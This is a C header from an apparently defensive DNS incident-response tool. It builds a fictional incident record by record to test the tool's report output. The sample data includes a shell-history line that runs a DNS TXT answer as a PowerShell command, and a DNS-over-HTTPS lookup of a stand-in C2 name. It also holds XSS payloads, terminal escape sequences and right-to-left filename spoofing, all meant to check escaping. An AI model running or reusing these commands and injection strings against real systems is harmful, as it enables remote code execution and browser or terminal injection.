/* SPDX-License-Identifier: Apache-2.0 */
/*
 * report_sample.h - a made-up incident, told to a report record by record,
 * with hostile bytes in every place where a host can put some.
 */
#ifndef DNSIR_REPORT_SAMPLE_H
#define DNSIR_REPORT_SAMPLE_H

#include <stdio.h>

#include "report_state.h"

/* These stand in for the rules of the modules. */
const struct rule intel_rules[] = {
	{ "command.doh", "Name looked up over HTTPS, past the resolver",
	    "T1071.004;T1572", "Developers who test a resolver.",
	    "Read the session's other commands, then ask its user." },
	{ "command.txt-fetch", "Payload fetched from a DNS TXT record",
	    "T1071.004;T1105;T1140", "None is usual.",
	    "Treat the host as compromised: isolate it and keep its memory." },
	{ "dns.ip-lookup", "Address look-up service in the cache",
	    "T1016;T1590.002", "Dynamic DNS clients, installers, monitoring.",
	    "Find the process that asks for it." },
	{ "history.disabled", "Shell history is switched off", "T1562.003",
	    "Hardened service accounts.",
	    "Compare with the host's other accounts." },
	{ "hosts.blocklist", "Block list in the hosts file", "",
	    "Advertisement blockers.", "Nothing, where it is wanted." },
	{ "hosts.public-mapping", "Name bound to a public address",
	    "T1565.001;T1071.004", "Developers and cluster installers.",
	    "Look the address up and find who wrote the line, and when." },
	{ "hosts.security-sinkhole", "Security vendor's name made unreachable",
	    "T1562.001;T1565.001", "Licence tricks on desktops, lab images.",
	    "Check that the product still updates; restore the line." },
	{ "journal.gap", "Hole in the journal", "T1070.002",
	    "Rotation, a full disk.", "Look for copies on a log server." },
	{ 0 },
};
const size_t intel_rules_count = 8;

#define SAMPLE_TIME INT64_C(1795529460000000) /* 2026-11-24T14:11:00Z */

static uint64_t sample_offset;

static inline struct record
sample_record(struct member *m, struct span raw)
{
	sample_offset += 100;
	return (struct record){
		.kind = REC_COMMAND,
		.basis = BASIS_BEFORE,
		.time = SAMPLE_TIME - 90 * USEC_PER_SEC,
		.until = TIME_NONE,
		.raw = raw,
		.ref = { m->index, (uint32_t)raw.n, sample_offset },
		.member = m,
	};
}

static inline void
sample_fact(struct report *r, const char *key, struct span value)
{
	report_see(r,
	    &(struct record){
		.kind = REC_FACT, .fact = { span_str(key), value } });
}

static inline void
sample_note(struct report *r, const char *kind, const char *source,
    struct span what, const char *error, const char *text)
{
	report_see(r,
	    &(struct record){ .kind = REC_NOTE,
		.basis = BASIS_EXACT,
		.time = SAMPLE_TIME + USEC_PER_SEC,
		.note = { span_str(source), span_str(kind), what,
		    span_str(error), span_str(text) } });
}

static inline void
sample_host(struct report *r, struct span hostname)
{
	sample_fact(r, "root.live", SPAN("yes"));
	sample_fact(r, "hostname", hostname);
	sample_fact(
	    r, "os.pretty_name", SPAN("Debian GNU/Linux 12 (bookworm)"));
	sample_fact(r, "kernel", SPAN("6.1.0-41-amd64"));
	sample_fact(r, "boot.time", SPAN("2026-11-20T06:02:11Z"));
	sample_fact(r, "start", SPAN("2026-11-24T14:11:00.255493Z"));
	sample_fact(r, "case", SPAN("IR-2026-117"));
	sample_fact(r, "operator", SPAN("A. Analyst"));
	sample_fact(r, "clock.offset", SPAN("3"));
	sample_fact(r, "option", SPAN("-o"));
	sample_fact(r, "option", SPAN("/media/kit"));
	sample_fact(r, "dnsir.version", SPAN("0.1.0"));
	sample_fact(r, "dnsir.sha256",
	    SPAN("2cf24dba5fb0a30e26e83b2ac5b9e29e1b161e5c1fa7425e730433"
		 "62938b9824"));
	sample_fact(r, "protection.read_only_view", SPAN("yes"));
	sample_fact(r, "protection.seccomp", SPAN("yes"));
	sample_fact(r, "protection.chroot", SPAN("yes"));
	sample_fact(r, "protection.uid", SPAN("61999"));
}

static inline void
sample_log(struct report *r)
{
	static const char *const taken[] = { "hosts", "history", "journal",
		"resolved" };

	struct member m = { .name = SPAN("[root]/etc/hosts"), .size = 1482 };

	for (int i = 0; i < 61; i++)
		report_see(
		    r, &(struct record){ .kind = REC_MEMBER, .member = &m });
	sample_note(r, "run-acquired", "run", SPAN_NONE, "", "");
	for (size_t i = 0; i < array_size(taken); i++) {
		sample_note(r, "source-begin", taken[i], SPAN_NONE, "", "");
		sample_note(
		    r, "member", taken[i], SPAN("[root]/etc/hosts"), "", "");
		sample_note(r, "source-end", taken[i], SPAN_NONE, "", "");
	}
	sample_note(r, "absent", "hosts", SPAN("/etc/hosts.bak"), "ENOENT", "");
	sample_note(r, "special", "history", SPAN("/home/eve/.bash_history"),
	    "ENXIO", "");
	sample_note(r, "refused", "history",
	    SPAN("/home/\x1b[31mred\n</td>/.zsh_history"), "EACCES", "");
	sample_note(r, "changed", "resolved", SPAN("systemd-resolved"), "",
	    "SIGUSR1 was sent to process 412; it wrote 214 lines to the "
	    "journal");
	sample_note(r, "done", "resolved", SPAN("cache dump"), "",
	    "complete: 97 records");
	sample_note(r, "source-begin", "net", SPAN_NONE, "", "");
	sample_note(r, "source-left", "net", SPAN("net"), "ETIMEDOUT", "");
	report_trouble(r, "the parser of wtmp was stopped after 5 seconds");
}

static inline void
sample_answer(struct report *r, const char *name, uint16_t type,
    enum answer_status status, const char *rdata)
{
	struct member m = { .index = 9,
		.name = SPAN("live/resolved/dump-cache.json") };
	struct record rec = sample_record(&m, span_str(rdata));

	rec.kind = REC_ANSWER;
	rec.basis = BASIS_WINDOW;
	rec.until = rec.time + 30 * USEC_PER_SEC;
	rec.answer = (struct record_answer){ .status = status,
		.from = FROM_RESOLVED_VARLINK,
		.text = span_str(name),
		.type = type,
		.class = 1,
		.ttl_known = true,
		.ttl = 300,
		.rdata = span_str(rdata),
		.scope = SPAN("dns eth0") };
	report_see(r, &rec);
}

static inline void
sample_answers(struct report *r)
{
	struct member m = { .index = 9,
		.name = SPAN("live/resolved/dump-cache.json") };
	struct record rec = sample_record(&m, SPAN("x"));

	sample_answer(r, "api.ipify.org", DNS_A, ANSWER_DATA, "104.26.12.205");
	sample_answer(
	    r, "updates.c2.example", DNS_TXT, ANSWER_DATA, "\"aGVsbG8=\"");
	sample_answer(r, "xk2j9q.example", DNS_A, ANSWER_NXDOMAIN, "");
	sample_answer(r, "<b>\x1b]0;x\x07.example", DNS_TXT, ANSWER_DATA,
	    "\"</script>\\010\"");
	rec.kind = REC_DUMP;
	rec.basis = BASIS_EXACT;
	rec.dump = (struct record_dump){ .event = DUMP_END,
		.from = FROM_RESOLVED_VARLINK,
		.answers = 97,
		.negatives = 12,
		.servers = 2,
		.whole = true };
	report_see(r, &rec);
}

static inline void
sample_hosts(struct findings *fs)
{
	static const char *const av[] = { "update.eset.com",
		"download.bitdefender.com", "kaspersky.com", "avast.com",
		"mcafee.com", "sophosupd.com", "symantec.com", "avg.com" };
	struct member m = { .index = 3, .name = SPAN("[root]/etc/hosts") };
	struct finding *f;
	struct record rec;
	char line[64];

	for (size_t i = 0; i < array_size(av); i++) {
		(void)snprintf(line, sizeof(line), "127.0.0.1\t%s", av[i]);
		rec = sample_record(&m, span_str(line));
		f = finding(fs, "hosts.security-sinkhole", SEV_CRITICAL,
		    span_str(av[i]));
		finding_why(f,
		    "The hosts file sends %s to 127.0.0.1, so the product "
		    "that needs it gets no updates.",
		    av[i]);
		finding_fact(f, "line", "%zu", i + 8);
		finding_fact(f, "mtime", "2026-11-22T03:14:07Z");
		finding_cite(f, &rec);
	}
	rec = sample_record(&m, SPAN("65.181.121.56 malicious.com"));
	f = finding(
	    fs, "hosts.public-mapping", SEV_HIGH, SPAN("malicious.com"));
	finding_why(f,
	    "The hosts file binds malicious.com to the public address "
	    "65.181.121.56, so no DNS log tells when it is used.");
	finding_fact(f, "address", "65.181.121.56");
	finding_fact(f, "changed",
	    "3 minutes after bob logged in from "
	    "203.0.113.9");
	finding_cite(f, &rec);
}

static inline void
sample_commands(struct findings *fs)
{
	struct member m = { .index = 5,
		.name = SPAN("[root]/home/bob/.bash_history") };
	struct record rec = sample_record(&m,
	    SPAN("curl -s -H 'Authorization: Bearer 4f9c2b7d1e' "
		 "'https://1.1.1.1/dns-query?name=c2.example'"));
	struct finding *f =
	    finding(fs, "command.doh", SEV_MEDIUM, SPAN("1.1.1.1"));

	rec.basis = BASIS_EXACT;
	finding_why(f, "bob asked 1.1.1.1 for c2.example over HTTPS.");
	finding_cite(f, &rec);
	rec = sample_record(&m,
	    SPAN("powershell . (nslookup -q=txt "
		 "http://some.owned.domain.com)[-1]"));
	f = finding(fs, "command.txt-fetch", SEV_CRITICAL,
	    SPAN("some.owned.domain.com"));
	finding_why(f, "bob ran the answer of a TXT query as a command.");
	finding_cite(f, &rec);
	for (int i = 0; i < 20; i++) {
		rec = sample_record(&m, SPAN("nslookup -q=txt c2.example"));
		finding_cite(f, &rec);
	}
	f = finding(fs, "history.disabled", SEV_LOW, SPAN("/root"));
	finding_why(f, "root's .bash_history leads to /dev/null.");
	f = finding(fs, "dns.ip-lookup", SEV_INFO, SPAN("api.ipify.org"));
	finding_why(f, "The name was in the resolver's cache.");
	finding_gap(fs, SPAN("journal of boot 7f3a"),
	    "sequence numbers 10882 to 11430 are missing");
}

/* Bytes that would act, were they not escaped. */
static inline void
sample_hostile(struct findings *fs)
{
	struct member m = { .index = 7,
		.name = SPAN("[root]/tmp/\x1b[2J<img src=x>\n\xff"
			     "\xe2\x80\xae"
			     "gpj.sh") };
	struct record rec = sample_record(&m,
	    SPAN("</pre></script><script>alert(1)</script>\x1b]0;pwn\x07"
		 "\r\n\0\xff\xe2\x80\xae"
		 "txt.exe&quot;'\"`{}"));
	struct finding *f = finding(fs, "journal.gap", SEV_MEDIUM,
	    SPAN("</script><script>alert(document.domain)</script>\n@custody@"
		 "\n<!--custody-->\xe2\x80\xae\xc3"));

	finding_why(f, "%s", "a \"why\" with <b>, ', & and \x1b[31m in it");
	finding_fact(f, "text", "%s", "\"};alert(1)//<!-- --token=hunter2");
	finding_cite(f, &rec);
}

static inline void
sample_tell(struct report *r, struct findings *fs)
{
	sample_offset = 0;
	sample_host(r, SPAN("web01"));
	sample_log(r);
	sample_answers(r);
	sample_hosts(fs);
	sample_commands(fs);
	sample_hostile(fs);
	report_exit(r, (int[]){ 4, 3 }, 2);
}

#endif
